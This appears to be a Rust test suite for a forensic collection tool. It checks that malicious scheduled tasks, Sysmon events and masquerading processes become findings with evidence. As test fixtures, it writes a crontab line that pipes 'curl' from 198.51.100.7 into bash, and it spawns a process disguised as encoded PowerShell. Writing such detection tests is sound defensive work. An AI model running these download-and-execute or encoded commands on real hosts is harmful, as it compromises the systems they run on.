//! Findings in the archive: built-in rules and Sigma over the collected records, `--rules`
//! refused loudly when wrong, every finding pointing at a record that exists.

use crate::harness::{RootBuilder, collect, fixture, irsnap};
use serde_json::Value;
use std::path::Path;

fn windows_root() -> RootBuilder {
    let r = RootBuilder::new();
    let tasks = "tasks/dfir-artifact-museum";
    r.copy(
        "Windows/System32/Tasks/GameOver",
        &fixture(&format!("{tasks}/Win10/APTSimulatorVM/GameOver")),
    );
    r.copy(
        "Windows/System32/Tasks/falshupdate22",
        &fixture(&format!("{tasks}/Server2022/APTSimulatorVM/falshupdate22")),
    );
    r.copy(
        "Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag",
        &fixture(&format!(
            "{tasks}/Win10/APTSimulatorVM/Microsoft/Windows/Defrag/ScheduledDefrag"
        )),
    );
    r.copy(
        "Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        &fixture("evtx/sigma-regression/proc_creation_win_powershell_base64_invoke/6385697e-9f1b-40bd-8817-f4a91f40508e.evtx"),
    );
    r
}

fn findings(a: &mut crate::harness::Archive) -> Vec<Value> {
    String::from_utf8(a.member("findings.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn malicious_tasks_and_events_become_findings_with_evidence() {
    let root = windows_root();
    let out = tempfile::tempdir().unwrap();
    let (run, a) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
    let mut a = a.unwrap_or_else(|| panic!("{}", run.stderr));
    let fs = findings(&mut a);
    let tasks = a.records("scheduled_tasks");
    let on = |name: &str| -> Vec<&Value> {
        fs.iter()
            .filter(|f| {
                f["evidence"].as_array().unwrap().iter().any(|e| {
                    e["member"] == "records/scheduled_tasks.jsonl"
                        && tasks[e["line"].as_u64().unwrap() as usize - 1]["name"]
                            .as_str()
                            .unwrap()
                            .ends_with(name)
                })
            })
            .collect()
    };
    // GameOver runs Mimikatz from C:\TMP every five minutes.
    let game = on("GameOver");
    assert!(
        game.iter().any(|f| f["techniques"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t.as_str().unwrap().starts_with("T1003"))),
        "{game:#?}"
    );
    // falshupdate22 runs a hidden, no-profile PowerShell.
    let flash = on("falshupdate22");
    assert!(
        flash.iter().any(|f| f["techniques"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t.as_str().unwrap().starts_with("T1059.001"))),
        "{flash:#?}"
    );
    // A stock Microsoft task stays quiet.
    assert!(on("ScheduledDefrag").is_empty());
    // The encoded PowerShell of the Sysmon event is decoded.
    let enc: Vec<&Value> = fs
        .iter()
        .filter(|f| f["evidence"][0]["member"] == "records/execution_events.jsonl")
        .filter(|f| f["decoded"].is_object())
        .collect();
    assert!(!enc.is_empty(), "no decoded payload in {fs:#?}");
    assert!(
        enc[0]["decoded"]["decoded"]
            .as_str()
            .unwrap()
            .contains("Invoke-WmiMethod")
    );
    // Findings are listed and hashed in the manifest, and shown in the report.
    let m = a.manifest();
    assert!(
        m["members"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["path"] == "findings.jsonl")
    );
    let html = String::from_utf8(a.member("report.html")).unwrap();
    assert!(html.contains("GameOver") || html.contains("mim.exe"));
}

#[test]
fn sigma_rules_apply_to_collected_events() {
    let root = windows_root();
    let out = tempfile::tempdir().unwrap();
    let sigma = fixture("sigma/rules/windows/process_creation");
    let (run, a) = collect(
        out.path(),
        &[
            "--root",
            root.path().to_str().unwrap(),
            "--sigma",
            sigma.to_str().unwrap(),
        ],
    );
    let mut a = a.unwrap_or_else(|| panic!("{}", run.stderr));
    let fs = findings(&mut a);
    let hit = fs
        .iter()
        .find(|f| f["rule_id"] == "sigma:6385697e-9f1b-40bd-8817-f4a91f40508e")
        .unwrap_or_else(|| panic!("regression rule did not fire: {fs:#?}"));
    assert!(hit["rule_origin"].as_str().unwrap().contains("author"));
    let log = String::from_utf8(a.member("collection.log")).unwrap();
    assert!(log.contains("sigma:"), "{log}");
}

#[test]
fn a_bad_rule_file_is_refused_with_file_and_line() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("mine.toml");
    std::fs::write(&p, "[[rule]]\nid = \"x\"\ntitel = \"typo\"\n").unwrap();
    let r = irsnap(&[
        "collect",
        "-o",
        dir.path().join("out").to_str().unwrap(),
        "--rules",
        p.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(r.stderr.contains("mine.toml"), "{}", r.stderr);
    assert!(
        r.stderr.contains('3') || r.stderr.contains("line"),
        "{}",
        r.stderr
    );
    assert!(
        !dir.path().join("out").exists()
            || std::fs::read_dir(dir.path().join("out")).unwrap().count() == 0
    );
}

/// The crash once reported: a command-line argument with a multi-byte character just before
/// `:\` made path detection slice inside a character and the whole run die with no archive.
/// Now the same crontab yields a complete archive, and the malicious line next to it is still
/// found.
#[test]
fn a_multibyte_argument_next_to_a_drive_colon_still_yields_an_archive_with_findings() {
    let root = RootBuilder::new();
    root.write("etc/hostname", b"crashhost\n");
    root.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n");
    root.write(
        "etc/crontab",
        "* * * * * root /usr/bin/x /é:\\x\n\
         */5 * * * * root /usr/bin/x 中:\\é C:\\é\\\n\
         */5 * * * * root curl -s http://198.51.100.7/a.sh | bash\n"
            .as_bytes(),
    );
    let out = tempfile::tempdir().unwrap();
    let (run, a) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
    assert!(
        run.code == 0 || run.code == 2,
        "exit {}: {}",
        run.code,
        run.stderr
    );
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    let mut a = a.unwrap_or_else(|| panic!("no archive: {}", run.stderr));
    let m = a.manifest();
    for stage in m["stages"].as_array().unwrap() {
        assert_ne!(stage["status"], "failed", "{stage}");
    }
    let jobs = a.records("scheduled_tasks");
    assert!(
        jobs.iter().any(|j| j.to_string().contains("/é:\\\\x")),
        "the hostile line is a record"
    );
    let fs = findings(&mut a);
    assert!(
        fs.iter().any(|f| f.to_string().contains("198.51.100.7")),
        "the download-and-run line is a finding: {fs:?}"
    );
}

/// A live process that lies in argv[0] (what `ps` shows) is a masquerading finding that names
/// the lie and the real image; the same program under its own name is not.
#[test]
fn a_process_lying_in_argv0_is_masquerading() {
    use std::os::unix::process::CommandExt;
    let mut liars: Vec<std::process::Child> =
        ["[kworker/7:77]", "powershell.exe -EncodedCommand SQBFAFgA"]
            .iter()
            .map(|argv0| {
                std::process::Command::new("/bin/sleep")
                    .arg0(argv0)
                    .arg("30")
                    .spawn()
                    .unwrap()
            })
            .collect();
    let honest = std::process::Command::new("/bin/sleep")
        .arg("31")
        .spawn()
        .unwrap();
    liars.push(honest);
    let out = tempfile::tempdir().unwrap();
    let (run, archive) = collect(out.path(), &["--profile", "volatile"]);
    for c in &mut liars {
        c.kill().ok();
        c.wait().ok();
    }
    assert!(
        matches!(run.code, 0 | 2),
        "exit {}: {}",
        run.code,
        run.stderr
    );
    let mut archive = archive.expect("an archive");
    let texts: Vec<String> = findings(&mut archive)
        .into_iter()
        .filter(|f| f["rule_id"] == "process-argv0-masquerade")
        .map(|f| f["matched"].to_string())
        .collect();
    for lie in ["[kworker/7:77]", "powershell.exe -EncodedCommand"] {
        assert!(
            texts.iter().any(|t| t.contains(lie) && t.contains("sleep")),
            "{lie}: {texts:?}"
        );
    }
    assert!(!texts.iter().any(|t| t.contains("sleep 31")), "{texts:?}");
    // A snapshot finding names the process, its parent and the collected host.
    let host = archive.manifest()["host"]["hostname"].clone();
    let kworker = findings(&mut archive)
        .into_iter()
        .find(|f| {
            f["rule_id"] == "process-argv0-masquerade"
                && f["matched"].to_string().contains("kworker")
        })
        .unwrap();
    assert_eq!(kworker["pid"], liars[0].id());
    assert_eq!(kworker["ppid"], std::process::id());
    assert_eq!(kworker["image"], "/usr/bin/sleep");
    assert_eq!(kworker["host"], host);
    assert!(kworker["first_seen"].is_string(), "{kworker:#}");
}

/// Every finding says who, when and where as plain fields (Hayabusa's timestamp, computer,
/// channel and event id; the process, its parent and its user), read back against the record
/// it points at; the offline root's host name is the one its events name.
#[test]
fn findings_say_who_when_and_where() {
    let root = windows_root();
    let out = tempfile::tempdir().unwrap();
    let sigma = fixture("sigma/rules/windows/process_creation");
    let (run, a) = collect(
        out.path(),
        &[
            "--root",
            root.path().to_str().unwrap(),
            "--sigma",
            sigma.to_str().unwrap(),
        ],
    );
    let mut a = a.unwrap_or_else(|| panic!("{}", run.stderr));
    let fs = findings(&mut a);
    let events = a.records("execution_events");
    let mut logged = 0;
    for f in &fs {
        assert!(f["host"].is_string(), "no host: {f:#}");
        let e = &f["evidence"][0];
        if e["member"] != "records/execution_events.jsonl" {
            continue;
        }
        logged += 1;
        let rec = &events[e["line"].as_u64().unwrap() as usize - 1];
        assert_eq!(f["host"], rec["header"]["computer"], "{f:#}");
        assert_eq!(f["channel"], "Microsoft-Windows-Sysmon/Operational");
        assert_eq!(f["event_id"], 1);
        assert_eq!(f["image"], rec["image"]);
        assert_eq!(f["parent_image"], rec["parent_image"]);
        assert_eq!(f["user"], rec["user"]);
        assert_eq!(f["pid"], rec["process_id"]);
        let t = f["first_seen"].as_str().unwrap();
        assert!(
            t.starts_with(&rec["utc_time"].as_str().unwrap()[..19]),
            "{t} vs {rec}"
        );
        assert_eq!(f["first_seen"], f["last_seen"]);
    }
    assert!(
        logged >= 2,
        "built-in and Sigma findings on the event: {fs:#?}"
    );
    assert!(
        fs.iter()
            .any(|f| f["rule_id"].as_str().unwrap().starts_with("sigma:")
                && f["evidence"][0]["member"] == "records/execution_events.jsonl")
    );
    // The root has no host name of its own: the events' Computer is used, for the manifest and
    // for the findings on task files.
    let computer = events
        .iter()
        .find_map(|r| r["header"]["computer"].as_str())
        .unwrap()
        .to_string();
    assert_eq!(a.manifest()["host"]["hostname"], computer.as_str());
    let task = fs
        .iter()
        .find(|f| f["evidence"][0]["member"] == "records/scheduled_tasks.jsonl")
        .unwrap();
    assert_eq!(task["host"], computer.as_str());
    assert!(task["channel"].is_null());
}

/// The terminal and `--json` end with what was found, so a run with critical findings does
/// not end like a clean one and a fleet can be ranked without opening archives.
#[test]
fn the_summary_and_json_rank_what_was_found() {
    let root = windows_root();
    let out = tempfile::tempdir().unwrap();
    let o = out.path().join("a");
    let json = irsnap(&[
        "collect",
        "--root",
        root.path().to_str().unwrap(),
        "-o",
        o.to_str().unwrap(),
        "--json",
    ]);
    assert_eq!(json.code, 0, "{}", json.stderr);
    let v: Value = serde_json::from_str(&json.stdout).unwrap();
    assert!(v["host"].is_string(), "{v:#}");
    let top = v["top_rules"].as_array().unwrap();
    assert!(!top.is_empty() && top.len() <= 5);
    let rank = |s: &str| {
        ["informational", "low", "medium", "high", "critical"]
            .iter()
            .position(|x| *x == s)
            .unwrap()
    };
    for w in top.windows(2) {
        assert!(
            rank(w[0]["severity"].as_str().unwrap()) >= rank(w[1]["severity"].as_str().unwrap())
        );
    }
    let most = v["findings"]
        .as_object()
        .unwrap()
        .keys()
        .map(|k| rank(k))
        .max()
        .unwrap();
    assert_eq!(rank(top[0]["severity"].as_str().unwrap()), most);
    assert!(top[0]["findings"].as_u64().unwrap() >= 1 && top[0]["example"].is_string());

    let text_out = out.path().join("b");
    let text = irsnap(&[
        "collect",
        "--root",
        root.path().to_str().unwrap(),
        "-o",
        text_out.to_str().unwrap(),
    ]);
    assert_eq!(text.code, 0, "{}", text.stderr);
    assert!(text.stdout.contains("top findings"), "{}", text.stdout);
    assert!(
        text.stdout.contains(top[0]["title"].as_str().unwrap()),
        "{}",
        text.stdout
    );
    assert!(
        text.stdout
            .contains(&format!("host     {}", v["host"].as_str().unwrap()))
    );

    // A root with nothing suspicious ends without the list.
    let clean = RootBuilder::new();
    clean.write("etc/hostname", b"quiet\n");
    let clean_out = out.path().join("c");
    let run = irsnap(&[
        "collect",
        "--root",
        clean.path().to_str().unwrap(),
        "-o",
        clean_out.to_str().unwrap(),
    ]);
    assert!(run.stdout.contains("findings none"), "{}", run.stdout);
    assert!(!run.stdout.contains("top findings"), "{}", run.stdout);
}

/// irsnap run from /tmp (as a rollout drops it) neither collects nor judges itself: its
/// binary is skipped by the temp walk with a line in the log, its process is listed, marked,
/// and raises nothing.
#[test]
fn irsnap_run_from_tmp_does_not_collect_or_flag_itself() {
    let drop_dir = tempfile::tempdir_in("/tmp").unwrap();
    let copy = drop_dir.path().join("irsnap");
    std::fs::copy(crate::harness::bin(), &copy).unwrap();
    let out = tempfile::tempdir().unwrap();
    let profile = out.path().join("p.toml");
    std::fs::write(
        &profile,
        "name = \"self\"\ndescription = \"d\"\n[collectors.processes]\n[collectors.temp_scripts]\n",
    )
    .unwrap();
    let dest = out.path().join("a");
    let run = crate::harness::Run::from(
        std::process::Command::new(&copy)
            .args([
                "collect",
                "--json",
                "-o",
                dest.to_str().unwrap(),
                "--profile",
            ])
            .arg(&profile)
            .output()
            .unwrap(),
    );
    assert!(matches!(run.code, 0 | 2), "{}", run.stderr);
    let v: Value = serde_json::from_str(&run.stdout).unwrap();
    let mut a = crate::harness::Archive::open(Path::new(v["archive"].as_str().unwrap()));
    let me = copy.to_str().unwrap();
    let temp = a.records("temp_scripts");
    assert!(
        !temp.iter().any(|r| r["path"] == me),
        "its own binary was collected"
    );
    let log = String::from_utf8(a.member("collection.log")).unwrap();
    assert!(log.contains("irsnap's own output or binary"), "{log}");
    let procs = a.records("processes");
    let own: Vec<&Value> = procs.iter().filter(|p| p["is_irsnap"] == true).collect();
    assert_eq!(own.len(), 1, "{own:?}");
    assert_eq!(own[0]["image_path"], me);
    let fs = findings(&mut a);
    assert!(
        !fs.iter().any(|f| f.to_string().contains(me)),
        "{:#?}",
        fs.iter()
            .filter(|f| f.to_string().contains(me))
            .collect::<Vec<_>>()
    );
}
